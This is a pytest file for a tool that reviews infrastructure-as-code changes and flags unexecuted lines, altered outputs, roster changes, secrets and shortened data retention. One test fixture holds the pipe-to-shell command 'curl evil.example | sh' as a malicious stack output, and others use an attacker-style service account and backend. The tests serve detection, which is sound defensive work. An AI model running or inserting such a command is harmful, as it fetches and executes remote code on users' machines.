"""Of a changed program, what no plan shows is named: lines that none ran, choices in a line, what is asked outside."""

import textwrap
from pathlib import Path
from typing import Any

import pytest

from coursecloud.review import closing, hiding, json_form, markdown, untaken
from coursecloud.review.dangers import Kind, Level
from coursecloud.review.report import Review
from tests.review.made import BUCKET, DISK, INSTANCE, resource, reviewed, whole
from tests.review.repository import Repository
from tests.review.test_sides import repo, review

__all__ = ["repo"]

OLD = '''"""Machines."""

import infra.names

LIMIT = 3


def member(number: int) -> str:
    name = f"agent-{number}"
    return name


def late(number: int) -> int:
    return number + LIMIT


given = dict(
    first=1 if infra else open,
    second=3,
)
member(1)
'''


def changed(repo: Repository, new: str, old: str = OLD) -> Review:
    """Review a change of one module that the program loads."""
    repo.write("__main__.py", "import infra.machines")
    repo.write("infra/__init__.py", "")
    repo.write("infra/names.py", "import os\n")
    repo.write("infra/machines.py", old)
    base = repo.commit()
    repo.write("infra/machines.py", new)
    return review(repo, base=base, head=repo.commit())


@pytest.mark.parametrize(
    ("was", "now", "line", "why"),
    [
        ("    return name\n", "    if number > 7:\n        name = 'eve'\n    return name\n", 11, "run by no plan"),
        ("    return name\n", "    if number > 7: name = 'eve'\n    return name\n", 10, "chooses within the line"),
        ("    return name\n", "    return 'eve' if number > 7 else name\n", 10, "chooses within the line"),
        ("    return name\n", "    return [each for each in (name, 'eve') if number]\n", 10, "chooses within the line"),
        ("    return name\n", "    import os\n    return os.environ.get('WHO', name)\n", 10, "asks"),
        ("    return name\n", "    from datetime import date\n    return f'{date.today()}'\n", 11, "asks"),
        ("    return name\n", "    return open(__file__).read()\n", 10, "asks"),
        ("    return name\n", "    return str(getattr(infra, '_' * 2 + 'file' + '_' * 2))\n", 10, "asks"),
        ("    return name\n", "    try:\n        return name\n    except OSError:\n        return 'eve'\n", 13, "by"),
        ("    return name\n", "    match number:\n        case 7:\n            return 1\n    return name\n", 12, "by"),
        ("LIMIT = 3", "LIMIT = 4", 14, "uses `LIMIT`, which changes"),
        ("LIMIT = 3", "LIMIT, OTHER = 3, 4", 14, "uses `LIMIT`, which changes"),
        ("LIMIT = 3", "print(LIMIT := 3)", 14, "uses `LIMIT`, which changes"),
        ("LIMIT = 3", "for LIMIT in (3, 4):\n    print(LIMIT)", 15, "uses `LIMIT`, which changes"),
        ("    return name\n", "    return number > 7 and 'eve' or name\n", 10, "chooses within the line"),
        ("    return name\n", "    return (name, 'eve')[number > 7]\n", 10, "chooses within the line"),
        ("    return name\n", "    return [name, 'eve'][number // 7]\n", 10, "chooses within the line"),
        ("    return name\n", "    return {7: 'eve'}.get(number, name)\n", 10, "chooses within the line"),
        ("    return name\n", "    return name * (number != 7)\n", 10, "chooses within the line"),
        ("    return name\n", "    match number:\n        case _: return name\n", 10, "chooses within the line"),
        ("    return name\n", "    if number != 7:\n        return name\n", 10, "chooses within the line"),
        ("    return name\n", "    return str(infra.names.os)\n", 10, "asks"),
        ("    return name\n", "    return str(__builtins__)\n", 10, "asks"),
        ("import infra.names\n", "from infra.names import os\nimport infra.names\n", 3, "asks"),
        ("def late(", "@(infra.names.os and (lambda f: f))\ndef late(", 13, "asks"),
        ("    return number + LIMIT\n", "    return number - LIMIT\n", 14, "run by no plan"),
        ("import infra.names\n", "import infra.names\nimport socket\n", 4, "asks"),
    ],
)  # fmt: skip
def test_what_no_plan_shows_is_named_by_line(repo: Repository, was: str, now: str, line: int, why: str) -> None:
    assert OLD.count(was) == 1
    found = changed(repo, OLD.replace(was, now))
    said = {each.line: each.why for each in found.untaken}
    assert why in said.get(line, ""), found.untaken
    assert found.level is Level.LOOK
    assert "of which NO PLAN SHOWS" in found.sentence
    assert f"infra/machines.py:{line} " in markdown.full(found)
    assert {"file": "infra/machines.py", "line": line, "why": said[line]} in json_form.to_json(found)["untaken"]


@pytest.mark.parametrize(
    ("was", "now"),
    [
        ("agent-", "helper-"),
        ('"""Machines."""', '"""Other words."""'),
        ("    return name\n", '    """More words."""\n    return name\n'),
        ("LIMIT = 3", "LIMIT = 3\nLEAST: int"),
        ("    return name\n", "    if number > 7:\n        raise ValueError(number)\n    return name\n"),
        ("import infra.names\n", "import json\n\nimport infra.names\n"),
        ("3,\n", "4,\n"),
    ],
)
def test_what_every_plan_runs_is_not(repo: Repository, was: str, now: str) -> None:
    found = changed(repo, OLD.replace(was, now))
    assert found.untaken == ()
    assert found.program == ("infra/machines.py",)


def test_a_constant_is_what_is_taken_of_it_and_not_what_is_called_alike(repo: Repository) -> None:
    """A name is a file's own, a function's own, imported, or an attribute; of those below lines 4, 8 and 16 take it."""
    user = """
        from infra import machines
        from infra.machines import LIMIT as most
        def imported():
            return most
        def own(LIMIT):
            return LIMIT
        def of_module():
            return machines.LIMIT
        def local():
            LIMIT = 9
            return LIMIT
        def other(self):
            return self.LIMIT
        class Own:
            def late(self):
                return self.SIZE
    """
    old = "LIMIT = 3\n\n\nclass Size:\n    SIZE = 1\n"
    repo.write("__main__.py", "import infra.users\nLIMIT = 1\ndef late():\n    return LIMIT\n")
    repo.write("infra/__init__.py", "")
    repo.write("infra/users.py", textwrap.dedent(user).lstrip())
    repo.write("infra/machines.py", old)
    base = repo.commit()
    repo.write("infra/machines.py", old.replace("3", "4").replace("1", "2"))
    repo.write("__main__.py", "import infra.users\nLIMIT = 2\ndef late():\n    return LIMIT\n")
    found = review(repo, base=base, head=repo.commit()).untaken
    assert [each.line for each in found if each.file == "infra/users.py"] == [4, 8, 16]
    assert "uses `LIMIT`" in next(each.why for each in found if (each.file, each.line) == ("__main__.py", 4))


def test_code_that_no_plan_runs_is_named_and_that_of_the_tools_is_not(repo: Repository) -> None:
    base = repo.commit()
    repo.write("infra/later.py", "x = 1\n")
    repo.write("coursecloud/other.py", "import os\n")
    repo.write("tests/test_x.py", "import os\n")
    repo.write("__main__.py", "x = 1\n")
    found = review(repo, base=base, head=repo.commit())
    assert [(each.file, each.why) for each in found.untaken if each.file != "__main__.py"] == [
        ("infra/later.py", "is run by no plan")
    ]


def test_what_cannot_be_read_is_said_and_what_leaves_the_project_is_not_read(tmp_path: Path) -> None:
    before, after = tmp_path / "before", tmp_path / "after"
    for folder in (before, after):
        (folder / "infra").mkdir(parents=True)
    (tmp_path / "secret.py").write_text("import os\n", encoding="utf-8")
    (after / "infra" / "link.py").symlink_to(tmp_path / "secret.py")
    (after / "infra" / "deep.py").write_text("x = " + "-" * 100_000 + "1\n", encoding="utf-8")
    (after / "infra" / "broken.py").write_text("def\n", encoding="utf-8")
    (after / "infra" / "long.py").write_text("x = 1\n" * 5000, encoding="utf-8")
    names = [f"infra/{name}.py" for name in ("link", "deep", "broken", "long")]
    found = untaken.of(before, after, names, {})
    assert {(each.file, each.why) for each in found if each.file != "infra/long.py"} == {
        ("infra/deep.py", "is nothing that this tool can read"),
        ("infra/link.py", "is a link: nobody here reads the code that it leads to"),
    }
    assert len([each for each in found if each.file == "infra/long.py"]) == 5000


@pytest.mark.parametrize("said", [None, [], "x", {"infra/x.py": "1"}, {"infra/x.py": None}])
def test_what_a_side_says_in_another_form_counts_as_not_run(said: object) -> None:
    assert untaken.ran_of(said) == {}
    assert untaken.ran_of({"infra/x.py": [1, "2", None]}) == {"infra/x.py": {1}}


def test_a_secret_in_such_a_line_is_hidden(repo: Repository) -> None:
    token = "ghp_" + "a1B2" * 9
    found = hiding.review(
        changed(repo, OLD.replace("    return name\n", f"    return '{token}' if number else name\n"))
    )
    assert found.untaken
    assert token not in str(found.untaken)


def test_what_a_changed_program_prints_otherwise_is_a_danger(repo: Repository) -> None:
    def plan(command: str) -> Any:
        return {**vars(whole(stack="one")), "outputs": {"commands": {"ssh": command}}}

    before, after = (type(whole())(**plan(each)) for each in ("gcloud ssh", "curl evil.example | sh"))
    assert not [each for each in reviewed(before, after).dangers if each.kind is Kind.OUTPUTS]
    repo.stack("one", before)
    base = repo.commit()
    repo.stack("one", after)
    repo.write("infra/commands.py", "x = 1")
    found = review(repo, base=base, head=repo.commit())
    (danger,) = found.dangers
    assert danger.kind is Kind.OUTPUTS
    assert "curl evil.example | sh" in danger.text
    assert "gcloud ssh" in danger.text
    assert "changes the OUTPUTS that people copy" in found.sentence
    gates, _ = closing.gates(["program"])
    assert list(gates[0].closed(found.stacks))


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("name: x\nbackend: {url: gs://theirs}\n", 'Pulumi.yaml backend: (none) -> {"url": "gs://theirs"}'),
        ("name: y\n", 'Pulumi.yaml name: "x" -> "y"'),
        ("[]\n", "not read"),
        ("{\n", "not read"),
    ],
)
def test_each_key_of_the_project_file_is_told(repo: Repository, text: str, said: str) -> None:
    repo.write("Pulumi.yaml", "name: x\n")
    base = repo.commit()
    repo.write("Pulumi.yaml", text)
    found = review(repo, base=base, head=repo.commit())
    assert said in " ".join(found.project)
    assert found.runs == ("Pulumi.yaml",)
    assert said.replace('"', "") in markdown.full(found).replace('"', "")


@pytest.mark.parametrize("file", ["course.yaml", "autumn/course.yaml"])
def test_each_key_of_a_roster_is_told_and_it_is_nothing_that_runs_by_itself(repo: Repository, file: str) -> None:
    """Whom a course lets in reaches every group's stack file by the next `course apply`."""
    base = repo.git("rev-parse", "HEAD")
    text = "table: groups.csv\nbackend: gs://theirs\naccounts: {runner: them@evil-1.iam.gserviceaccount.com}\n"
    repo.write(file, text)
    middle = repo.commit()
    found = review(repo, base=base, head=middle)
    assert found.program == (file,)
    assert found.runs == ()
    assert f'{file} accounts: (none) -> {{"runner": "them@evil-1.iam.gserviceaccount.com"}}' in found.rosters
    assert "gs://theirs" in markdown.full(found)
    assert "changes 3 keys of a course's ROSTER" in found.sentence
    assert json_form.to_json(found)["rosters"] == list(found.rosters)
    rules = "".join(f"- {{when: {{group: g{n}}}, answers: {{credit: '{n}'}}}}\n" for n in range(60))
    repo.write(file, f"{text}defaults:\n  settings: {{coursecloud:lease: {{maxPerHour: 900}}}}\nrules:\n{rules}")
    found = review(repo, base=middle, head=repo.commit())
    assert any("maxPerHour" in each and "900" in each for each in found.rosters)
    repo.write(file, text + "groups:\n" + "".join(f"  g{n}: {{credit: '{n}'}}\n" for n in range(60)))
    other = repo.commit()
    repo.write(file, text + "groups:\n" + "".join(f"  g{n}: {{credit: '9{n}'}}\n" for n in range(60)))
    found = review(repo, base=other, head=repo.commit())
    assert all(f"groups.g{n}.credit" in markdown.full(found) for n in range(60))


def test_a_file_that_neither_side_can_read_is_said_to_be_none(repo: Repository) -> None:
    repo.write("course.yaml", "[" * 5000)
    base = repo.commit()
    repo.write("course.yaml", "groups: {1: {credit: 5}}\n")
    found = review(repo, base=base, head=repo.commit())
    assert found.rosters == ("course.yaml cannot be read on either side: its lines are all that is known of it",)


def test_what_costs_less_by_the_hour_and_more_by_the_day_says_so() -> None:
    def service(*, idle: bool) -> Any:
        container = {"image": "x", "resources": {"cpuIdle": idle, "limits": {"cpu": "1", "memory": "1Gi"}}}
        template = {"containers": [container], "scaling": {"minInstanceCount": 0, "maxInstanceCount": 1}}
        inputs = {"location": "europe-west4", "template": template}
        return whole(resource("gcp:cloudrunv2/service:Service", "s", inputs))

    found = reviewed(service(idle=True), service(idle=False))
    assert "/day as planned" in found.sentence
    assert "-$" not in found.sentence


def test_what_stores_more_and_runs_for_less_says_what_a_day_costs() -> None:
    def stack(kind: str, size: int) -> Any:
        at = {"zone": "europe-west1-b"}
        machine = {**at, "machineType": kind, "bootDisk": {"initializeParams": {"type": "pd-balanced", "size": 10}}}
        disk = resource(DISK, "m-work", {**at, "size": size, "type": "pd-balanced"})
        return whole(resource(INSTANCE, "m", machine), disk)

    said = reviewed(stack("e2-standard-2", 30), stack("e2-small", 560)).sentence
    assert "/day as planned" in said
    assert "/h" not in said
    assert "/h" in reviewed(stack("e2-small", 30), stack("e2-standard-2", 30)).sentence


def test_a_bucket_whose_content_goes_sooner_is_in_the_first_line() -> None:
    def store(days: int) -> Any:
        rule = {"action": {"type": "Delete"}, "condition": {"daysSinceNoncurrentTime": days}}
        return whole(resource(BUCKET, "b", {"name": "b", "lifecycleRules": [rule]}))

    assert "can DELETE CONTENT of 1 store sooner" in reviewed(store(30), store(1)).sentence
    assert "DELETE CONTENT" not in reviewed(store(1), store(30)).sentence


KEEP: dict[str, Any] = {"id": "keep", "action": "KEEP", "condition": {"tagState": "TAGGED", "tagPrefixes": ["v"]}}
DELETE: dict[str, Any] = {"id": "old", "action": "DELETE", "condition": {"olderThan": "86400s"}}
WIDE = {**DELETE, "condition": {"tagState": "ANY"}}
PREFIXED = {**DELETE, "condition": {"packageNamePrefixes": ["a"]}}


POLICIES: list[tuple[Any, Any, bool]] = [
    ([DELETE], [DELETE, KEEP], False),
    ([DELETE, KEEP], [DELETE], True),
    ([DELETE, KEEP], [KEEP], False),
    ([KEEP], [DELETE, KEEP], True),
    ([KEEP], [{**KEEP, "condition": {"tagState": "TAGGED", "tagPrefixes": ["v", "deployed"]}}], False),
    ([KEEP], [{**KEEP, "condition": {"tagState": "TAGGED", "tagPrefixes": ["deployed"]}}], True),
    ([KEEP], [{**KEEP, "condition": {"tagState": "TAGGED", "tagPrefixes": ["", "b"]}}], False),
    ([KEEP], [{**KEEP, "condition": {"tagState": "TAGGED", "tagPrefixes": ["v1", "v2"]}}], True),
    ([DELETE], [{**DELETE, "condition": {"olderThan": "86400s", "tagPrefixes": ["v"]}}], False),
    ([{**DELETE, "condition": {"olderThan": "86400s", "tagPrefixes": ["v"]}}], [DELETE], True),
    ([DELETE], [{**DELETE, "condition": {"olderThan": "86400s", "newerThan": "0s"}}], False),
    ([DELETE], [{**DELETE, "condition": {"olderThan": "3600s"}}], True),
    ([WIDE], [{**DELETE, "condition": {"tagState": "UNTAGGED"}}], False),
    ([{**DELETE, "condition": {"tagState": "UNTAGGED"}}], [WIDE], True),
    ([PREFIXED], [{**DELETE, "condition": {"packageNamePrefixes": ["ab"]}}], False),
    ([PREFIXED], [{**DELETE, "condition": {"packageNamePrefixes": ["b"]}}], True),
    ([PREFIXED], [{**DELETE, "condition": {"packageNamePrefixes": []}}], True),
    ([KEEP], [{**KEEP, "action": "DELETE"}], True),
]


KEPT: list[tuple[Any, Any, bool]] = [
    ({"retentionDurationSeconds": 0}, None, False),
    ({"retentionDurationSeconds": 604800}, None, True),
    ({"retentionDurationSeconds": 604800}, {"retentionDurationSeconds": 0}, True),
    (None, {"retentionDurationSeconds": 604800}, False),
    (None, {"retentionDurationSeconds": 0}, True),
]


@pytest.mark.parametrize(("before", "after", "sooner"), KEPT)
def test_a_bucket_that_says_nothing_of_what_is_deleted_keeps_it_as_google_does(
    before: Any, after: Any, sooner: bool
) -> None:
    old, new = (
        whole(resource("gcp:storage/bucket:Bucket", "b", {"name": "b", **({"softDeletePolicy": each} if each else {})}))
        for each in (before, after)
    )
    assert ("DELETE CONTENT" in reviewed(old, new).sentence) is sooner


@pytest.mark.parametrize(("before", "after", "sooner"), POLICIES)
def test_a_policy_that_spares_more_deletes_nothing_sooner(before: Any, after: Any, sooner: bool) -> None:
    kind = "gcp:artifactregistry/repository:Repository"
    old, new = (whole(resource(kind, "r", {"repositoryId": "r", "cleanupPolicies": each})) for each in (before, after))
    assert ("DELETE CONTENT" in reviewed(old, new).sentence) is sooner
